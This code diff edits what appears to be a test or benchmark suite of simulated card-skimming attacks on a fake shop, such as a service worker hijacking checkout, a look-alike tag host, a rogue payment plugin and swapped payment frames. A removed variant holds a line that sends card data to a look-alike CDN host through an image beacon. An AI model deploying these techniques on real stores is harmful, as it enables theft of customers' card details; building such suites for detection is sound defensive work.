@@ -1,4 +1,4 @@
-import { apiFetch, checkoutBlock, element, gatewayBlock, gtag, payfold, paymentFrame } from './blocks-code.ts'
+import { apiFetch, checkoutBlock, element, gatewayBlock, gtag, paymentFrame } from './blocks-code.ts'
 import { changedFile, js, type Variant } from './variants.ts'
 
 const code = String.raw
@@ -31,7 +31,8 @@ export const eleventhBlocksAttacks: readonly Variant[] = [
   ),
   {
     id: 'v11-frame-on-touch',
-    about: 'the frame of the provider is another one as soon as the mouse or the cursor comes to it, or after four seconds',
+    about:
+      'the frame of the provider is another one as soon as the mouse or the cursor comes to it, or after four seconds',
     change: (site) => {
       site.files['js-payfold.test/v3/elements-inner-payment.html'] = strangersFrame
       site.files['shop.test/wp-includes/js/dist/element.min.js'] = js(
@@ -77,7 +78,8 @@ export const eleventhBlocksAttacks: readonly Variant[] = [
   },
   {
     id: 'v11-worker-answer',
-    about: 'a service worker answers the order in place of the shop: the customer is led to a page of somebody else to pay again',
+    about:
+      'a service worker answers the order in place of the shop: the customer is led to a page of somebody else to pay again',
     change: (site) => {
       site.files['shop.test/sw.js'] = js(
         code`self.addEventListener("install", function () { self.skipWaiting(); }); self.addEventListener("activate", function (e) { e.waitUntil(self.clients.claim()); });
@@ -98,7 +100,8 @@ document.addEventListener("wc-blocks-ready", function () { var i = document.crea
   ),
   {
     id: 'v11-tag-twin',
-    about: 'measuring comes from a host of nearly the same name, lies over the element in a closed shadow and measures progress',
+    about:
+      'measuring comes from a host of nearly the same name, lies over the element in a closed shadow and measures progress',
     change: (site) => {
       site.head[6] = '<script async src="http://www.tagsite-manager.test/gtag/js?id=G-4WKD"></script>'
       site.files['www.tagsite-manager.test/gtag/js'] = js(
@@ -112,7 +115,8 @@ document.addEventListener("wc-blocks-ready", function () { var i = document.crea
   },
   {
     id: 'v11-own-method',
-    about: 'a plugin more registers a way of paying by the interface of the store, is chosen from the start and puts the card into the order',
+    about:
+      'a plugin more registers a way of paying by the interface of the store, is chosen from the start and puts the card into the order',
     change: (site) => {
       site.head.push('<script defer src="/wp-content/plugins/card-direct/build/index.js?ver=1.0"></script>')
       site.files['shop.test/wp-content/plugins/card-direct/build/index.js'] = js(
@@ -136,7 +140,8 @@ if (w.EditContext) { var edit = new EditContext(); c.editContext = edit; edit.ad
   ),
   {
     id: 'v11-frame-by-name',
-    about: 'measuring opens a page in the window of a given name: it is the frame of the provider, whose attribute stays as it was',
+    about:
+      'measuring opens a page in the window of a given name: it is the frame of the provider, whose attribute stays as it was',
     change: (site) => {
       site.files[`elements-payfold.test/${innerFrame}`] = strangersFrame
       tags(
@@ -157,19 +162,6 @@ if (w.EditContext) { var edit = new EditContext(); c.editContext = edit; edit.ad
           body: '<!doctype html><title>f</title>',
         }
       site.files[`js.payfold-elements.test/${innerFrame}`] = strangersFrame
-    },
-  },
-  {
-    id: 'v11-library-forwards',
-    about: 'the library comes from a network of packages under the same name, and notes what it is told of the card',
-    change: (site) => {
-      site.head[1] = '<script src="http://cdn.packages-npm.test/@payfold/payfold-js@3.88/dist/payfold.js"></script>'
-      site.files['cdn.packages-npm.test/@payfold/payfold-js@3.88/dist/payfold.js'] = js(
-        payfold(
-          '3.88',
-          code`w.addEventListener("message", function (e) { if (e.origin === origin && e.data && e.data.result) new Image().src = "http://cdn.packages-npm.test/b.gif?" + encodeURIComponent(JSON.stringify(e.data.result)); });`,
-        ),
-      )
     },
   },
 ]
